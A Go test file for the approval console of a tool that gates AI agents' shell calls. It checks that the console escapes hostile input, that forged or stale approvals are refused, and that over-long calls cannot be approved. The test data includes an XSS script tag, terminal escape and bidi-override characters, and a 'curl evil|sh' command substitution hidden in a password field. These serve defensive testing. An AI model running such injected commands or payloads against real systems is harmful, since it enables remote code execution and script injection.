package console_test

import (
	"errors"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/seed-3ebc6b8a/gatehouse/internal/admin"
	"github.com/seed-3ebc6b8a/gatehouse/internal/call"
	"github.com/seed-3ebc6b8a/gatehouse/internal/console"
	"github.com/seed-3ebc6b8a/gatehouse/internal/grant"
)

// add puts a call before the person.
func (cl *client) add(id string, args string) {
	cl.t.Helper()
	c := shellCall("x")
	c.Args = []byte(args)
	r := newRequest(id, c)
	cl.desk.change(func() { cl.desk.requests = append(cl.desk.requests, r) })
}

func TestEveryByteIsVisible(t *testing.T) {
	t.Parallel()
	cl := signedIn(t, console.Options{})
	long := strings.Repeat("x", 5000) + "END"
	cl.add("r-1", `{"command":"<script>alert(1)</script> && echo \u001b[31mred\u0007 \u202egnp\u202c a\u200bb \udb40\udc41 tail  ","password":"hunter2$(curl evil|sh)","deep":{"k":"z\u200dw"},"long":"`+long+`","regexp":"a\\nb"}`)
	page := cl.get("/requests/r-1")
	for _, want := range []string{
		"&lt;script&gt;alert(1)&lt;/script&gt;", `<span class="esc">\x1b</span>[31mred<span class="esc">\x07</span>`, `<span class="esc">\u202E</span>gnp`,
		`a<span class="esc">\u200B</span>b`, `<span class="esc">\U000E0041</span>`, `hunter2$(curl evil|sh)`, `z<span class="esc">\u200d</span>w`, long,
		"2 spaces at the end of the line",
		`<span class="ln">a\nb</span>`, // a backslash stays as it runs
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page does not show %q", want)
		}
	}
	for _, bad := range []string{"<script>alert", "\x1b", "\u202e", "\u200b", "\u200d", "\U000E0041", "\a"} {
		if strings.Contains(page, bad) {
			t.Errorf("the page holds %q as it is", bad)
		}
	}
}

// Names, notes and reasons come from agents too.
func TestEverythingIsEscaped(t *testing.T) {
	t.Parallel()
	cl := signedIn(t, console.Options{})
	const evil = "<img src=x>\x1b[2J\u202e\"'"
	c := shellCall("true")
	c.Note, c.Dir = evil, "/tmp/"+evil
	r := newRequest("r-1", c)
	r.Facts = &admin.Facts{
		Words: evil, Class: evil, Needs: []call.Need{{Capability: call.Capability(evil), Scope: evil, Evidence: []call.Evidence{{Where: evil, Text: evil}}}},
		Uncommitted: []string{evil}, Observed: []call.Evidence{{Where: evil, Text: evil}}, Findings: []call.Evidence{{Where: evil, Text: evil}},
	}
	r.Decision.Ballots[0].Votes[0].Reason = evil
	r.Decision.Ballots[0].Conflicts = []call.Conflict{{Source: evil, Reason: evil}}
	r.Offers = append(r.Offers, grant.Offer{Use: grant.Session, Words: evil})
	cl.desk.change(func() {
		d := cl.desk
		d.requests = append(d.requests, r)
		d.budgets[1].Parent, d.budgets[0].Lines[0].Need.Scope, d.budgets[0].By = evil, evil, evil
		d.grants[0].Words, d.sessions[0].Workspace, d.sessions[0].Process = evil, evil, evil
		d.kill = admin.Kill{On: true, Reason: evil, By: evil}
		d.policy.Broken, d.policy.Staged = []string{evil}, &admin.StagedPolicy{Changes: []string{evil}}
		d.agents[0].Name = evil
		for i := range d.records {
			d.records[i].Operation, d.records[i].Principal, d.records[i].Body = evil, evil, []byte(`{"call":{"args":{"command":"<img src=x>\u001b\u202e"}}}`)
		}
	})
	for _, path := range []string{"/", "/requests/r-1", "/requests/r-1/card", "/live", "/log", "/log/rec-001", "/sessions", "/grants", "/budgets", "/policy", "/kill", "/people"} {
		page := cl.get(path)
		for _, bad := range []string{"<img", "\x1b", "\u202e"} {
			if strings.Contains(page, bad) {
				t.Errorf("%s holds %q: …%s…", path, bad, page[max(0, strings.Index(page, bad)-80):strings.Index(page, bad)+20])
			}
		}
	}
}

func TestRequestPageShowsWhatTheDecisionRestsOn(t *testing.T) {
	t.Parallel()
	cl := signedIn(t, console.Options{})
	page := text(cl.get("/requests/r-7c21"))
	for _, want := range []string{
		"git push origin feature/checkout", "/home/ann/shop", "claude", "release", "s-4f1c", "hook:claude", "claude (pid 4121)", "Publish the branch",
		"Connects to the network github.com:443", "/home/ann/shop/.git", "34 of 100, moderate", "Nothing says that it could not be undone", "/home/ann/shop/cart/total.go",
		"owned by root", "it connects to a host that was not used in this session", "policy.toml:14", "net.egress = confirm", "/command[9:15]",
		"Approve once", "connecting to github.com:443 for the rest of this session", "The agent’s host runs this call",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page does not say %q", want)
		}
	}
	for _, stage := range call.Stages() {
		if name := stage.String(); !strings.Contains(page, strings.ToUpper(name[:1])+name[1:]) {
			t.Errorf("no vote of stage %s", name)
		}
	}
}

func TestApprove(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cl := signedIn(t, console.Options{})
		form := cl.answerForm("r-7c21")
		time.Sleep(999 * time.Millisecond)
		if got := cl.says("/requests/r-7c21/approve", form); !strings.Contains(got, "less than a second") {
			t.Errorf("before a second: %q", got)
		}
		time.Sleep(time.Millisecond)
		if got := cl.says("/requests/r-7c21/approve", form); got != "Approved once." {
			t.Errorf("after a second: %q", got)
		}
		if got := cl.says("/requests/r-7c21/approve", form); got != "already approved by ann at 12:01" {
			t.Errorf("twice: %q", got)
		}
		if page := cl.get("/requests/r-7c21"); strings.Contains(page, "approve-once") || !strings.Contains(page, "Approved by ann at") {
			t.Error("the page of an answered request offers answers, or does not say who answered")
		}
		if diff := cmp.Diff([]string{"ann on console: approved r-7c21 "}, cl.desk.did()); diff != "" {
			t.Error(diff)
		}
		yes := cl.desk.yes[0]
		if yes.Shown.String() != form.Get("digest") || !yes.ShownAt.Equal(shownAt(form.Get("token"))) || yes.Offer != 0 {
			t.Errorf("approval: %+v", yes)
		}
	})
}

func TestApproveForTheSession(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cl := signedIn(t, console.Options{})
		form := cl.answerForm("r-7c21")
		form.Set("offer", "1")
		time.Sleep(time.Second)
		if got := cl.says("/requests/r-7c21/approve", form); got != "Approved for the session: connecting to github.com:443 for the rest of this session." {
			t.Error(got)
		}
		if cl.desk.yes[0].Offer != 1 {
			t.Errorf("offer %d", cl.desk.yes[0].Offer)
		}
	})
}

func TestNeverAskAgain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cl := signedIn(t, console.Options{})
		if !strings.Contains(cl.get("/requests/r-7c21"), `data-test="never-ask"`) {
			t.Error("the page does not offer a rule")
		}
		form := cl.answerForm("r-7c21")
		form.Set("never", "yes")
		time.Sleep(time.Second)
		if got := cl.says("/requests/r-7c21/approve", form); !strings.Contains(got, "waits to be accepted") {
			t.Error(got)
		}
		if diff := cmp.Diff([]string{"ann on console: approved r-7c21 ", "ann on console: never ask r-7c21 again"}, cl.desk.did()); diff != "" {
			t.Error(diff)
		}
	})
}

// What is approved is what was on screen, for as long as the form says.
func TestForgedAnswersAreRefused(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cl := signedIn(t, console.Options{})
		form, other := cl.answerForm("r-7c21"), cl.answerForm("r-7c22")
		time.Sleep(time.Second)
		for name, change := range map[string]func(url.Values){
			"no token":                func(f url.Values) { f.Del("token") },
			"token of another":        func(f url.Values) { f.Set("token", other.Get("token")) },
			"older token":             func(f url.Values) { f.Set("token", "A"+f.Get("token")[1:]) },
			"no digest":               func(f url.Values) { f.Del("digest") },
			"digest of another":       func(f url.Values) { f.Set("digest", other.Get("digest")) },
			"another one altogether":  func(f url.Values) { f.Set("digest", other.Get("digest")); f.Set("token", other.Get("token")) },
			"no offer":                func(f url.Values) { f.Del("offer") },
			"token of another server": func(f url.Values) { f.Set("token", signedIn(t, console.Options{}).answerForm("r-7c21").Get("token")) },
		} {
			f := url.Values{}
			for k, v := range form {
				f[k] = v
			}
			change(f)
			if got := cl.says("/requests/r-7c21/approve", f); strings.HasPrefix(got, "Approved") || got == "" {
				t.Errorf("%s: %q", name, got)
			}
		}
		if acts := cl.desk.did(); len(acts) > 0 {
			t.Errorf("something was done: %q", acts)
		}
	})
}

func TestStaleDigestIsRefused(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cl := signedIn(t, console.Options{})
		form := cl.answerForm("r-7c21")
		cl.desk.change(func() { cl.desk.requests[0].Digest = digestOf("another call") })
		time.Sleep(time.Second)
		form.Set("text", "words")
		for _, act := range []string{"approve", "deny", "respond"} {
			if got := cl.says("/requests/r-7c21/"+act, form); got != "the call on screen is not the one that waits" {
				t.Errorf("%s: %q", act, got)
			}
		}
	})
}

func TestTooLongCannotBeApproved(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cl := signedIn(t, console.Options{})
		// Short as it is sent, long as it is shown.
		cl.add("r-1", `{"command":"`+strings.Repeat(`\u0007`, 70_000)+`"}`)
		page := cl.get("/requests/r-1")
		if !strings.Contains(page, "too long to be shown whole") || strings.Contains(page, "approve-once") || !strings.Contains(page, `data-test="deny"`) {
			t.Error("the page does not refuse")
		}
		form := cl.answerForm("r-1")
		time.Sleep(time.Second)
		if got := cl.says("/requests/r-1/approve", form); !strings.Contains(got, "cannot be shown whole") {
			t.Error(got)
		}
		if got := cl.says("/requests/r-1/deny", form); !strings.HasPrefix(got, "Denied") {
			t.Error(got)
		}
	})
}

func TestPinnedAsksForAFactor(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cl := signedIn(t, console.Options{})
		if page := cl.get("/requests/r-7c24"); strings.Contains(page, "approve-once") || !strings.Contains(page, "/people#totp") {
			t.Error("without a factor the page does not lead to setting one up")
		}
		cl.desk.change(func() { cl.desk.people[0].TOTP = true })
		if page := cl.get("/requests/r-7c24"); !strings.Contains(page, `data-test="code"`) || !strings.Contains(page, "approve-once") {
			t.Error("no field for the code")
		}
		form := cl.answerForm("r-7c24")
		time.Sleep(time.Second)
		if got := cl.says("/requests/r-7c24/approve", form); got != "a fresh code of your second factor is needed" {
			t.Error(got)
		}
		form.Set("code", " 123456 ")
		if got := cl.says("/requests/r-7c24/approve", form); got != "Approved once." {
			t.Error(got)
		}
	})
}

func TestDenyAndRespond(t *testing.T) {
	t.Parallel()
	cl := signedIn(t, console.Options{})
	form := cl.answerForm("r-7c21")
	form.Set("text", " not now ")
	if got := cl.says("/requests/r-7c21/deny", form); !strings.HasPrefix(got, "Denied") {
		t.Error(got)
	}
	form = cl.answerForm("r-7c22")
	if got := cl.says("/requests/r-7c22/respond", form); got != "An answer in words needs words." {
		t.Error(got)
	}
	form.Set("text", "use the other file")
	if got := cl.says("/requests/r-7c22/respond", form); !strings.HasPrefix(got, "Answered") {
		t.Error(got)
	}
	want := []string{"ann on console: denied r-7c21 not now", "ann on console: responded r-7c22 use the other file"}
	if diff := cmp.Diff(want, cl.desk.did()); diff != "" {
		t.Error(diff)
	}
}

func TestEdit(t *testing.T) {
	t.Parallel()
	cl := signedIn(t, console.Options{})
	form := cl.answerForm("r-7c21")
	for args, want := range map[string]string{
		`{"command":`: "not strict JSON", `{"a":1,"a":2}`: "duplicate", `[1]`: "must be a JSON object",
	} {
		form.Set("args", args)
		res := cl.post("/requests/r-7c21/edit", form)
		page := text(res.Body.String())
		if res.Code != http.StatusConflict || !strings.Contains(page, want) || !strings.Contains(page, args) {
			t.Errorf("%s: %d, and the page does not say %q with the text as it was left", args, res.Code, want)
		}
	}
	form.Set("args", `{"command": "git push --dry-run"}`)
	res := cl.post("/requests/r-7c21/edit", form)
	if got := res.Header().Get("Location"); got != "/requests/r-7c21-edited" {
		t.Fatalf("redirect to %q, %d", got, res.Code)
	}
	page := cl.get("/requests/r-7c21-edited")
	if !strings.Contains(page, "git push --dry-run") || !strings.Contains(page, `edited from <a href="/requests/r-7c21">`) || !strings.Contains(page, "judged anew") {
		t.Error("the page of the edited call does not show it")
	}
	if diff := cmp.Diff([]string{`ann on console: edited r-7c21 {"command":"git push --dry-run"}`}, cl.desk.did()); diff != "" {
		t.Error(diff)
	}
}

// The text for editing is the same value as the arguments, however strange.
func TestEditStartsFromTheSameValue(t *testing.T) {
	t.Parallel()
	cl := signedIn(t, console.Options{})
	const args = `{"a":"\u202e\u200b\udb40\udc41 \\u0041 \"q\" <b>&amp;","b":[1.0,9007199254740993,"\u001b"],"c":"line\nline\ttab"}`
	cl.add("r-1", args)
	form := regexp.MustCompile(`(?s)data-test="edit-args">(.*?)</textarea>`).FindStringSubmatch(cl.get("/requests/r-1"))
	if form == nil {
		t.Fatal("no text to edit")
	}
	for _, bad := range []string{"\u202e", "\u200b", "\U000E0041"} {
		if strings.Contains(form[1], bad) {
			t.Errorf("the text holds %q as it is", bad)
		}
	}
	want, err := call.Canonical([]byte(args))
	if err != nil {
		t.Fatal(err)
	}
	got, err := call.Canonical([]byte(text(form[1])))
	if err != nil {
		t.Fatalf("%v: %s", err, form[1])
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Error(diff)
	}
}

// The card of a call in the inbox approves only what it shows whole.
func TestInboxApprovesOnlyWhatItShows(t *testing.T) {
	t.Parallel()
	cl := signedIn(t, console.Options{})
	cl.add("r-short", `{"command":"make"}`)
	cl.add("r-long", `{"command":"`+strings.Repeat("x", 1500)+`"}`)
	cl.add("r-lines", `{"command":"`+strings.Repeat(`\n`, 30)+`rm"}`)
	for id, want := range map[string]bool{"r-short": true, "r-7c22": true, "r-long": false, "r-lines": false, "r-7c21": false, "r-7c23": false, "r-7c24": false} {
		card := cl.get("/requests/" + id + "/card")
		if got := strings.Contains(card, "inbox-approve-once"); got != want {
			t.Errorf("%s can be approved on its card: %v, want %v", id, got, want)
		}
		if !strings.Contains(cl.get("/"), `id="req-`+id+`"`) {
			t.Errorf("%s is not in the inbox", id)
		}
	}
}

func TestScriptsGetAnswersInJSON(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cl := signedIn(t, console.Options{})
		form := cl.answerForm("r-7c22")
		form.Set("proof", cl.proof)
		ask := func() (int, string) {
			res := cl.send(http.MethodPost, "/requests/r-7c22/approve", form, func(r *http.Request) { r.Header.Set("Accept", "application/json") })
			return res.Code, res.Body.String()
		}
		if code, body := ask(); code != http.StatusConflict || !strings.Contains(body, "less than a second") {
			t.Error(code, body)
		}
		time.Sleep(time.Second)
		if code, body := ask(); code != http.StatusOK || body != `{"text":"Approved once.","tone":"allow"}` {
			t.Error(code, body)
		}
	})
}

func TestErrors(t *testing.T) {
	t.Parallel()
	cl := signedIn(t, console.Options{})
	for path, want := range map[string]int{"/requests/none": 404, "/log/none": 404, "/nowhere": 404, "/assets/none": 404, "/requests/none/card": 404} {
		if res := cl.send(http.MethodGet, path, nil, nil); res.Code != want || !strings.Contains(res.Body.String(), "Back to the inbox") {
			t.Errorf("%s: %d, want %d in the look of the console", path, res.Code, want)
		}
	}
	cl.desk.broken = errors.New("secret detail")
	res := cl.send(http.MethodGet, "/", nil, nil)
	if res.Code != http.StatusInternalServerError || strings.Contains(res.Body.String(), "secret detail") || !strings.Contains(res.Body.String(), "Something went wrong") {
		t.Errorf("%d %s", res.Code, res.Body)
	}
}
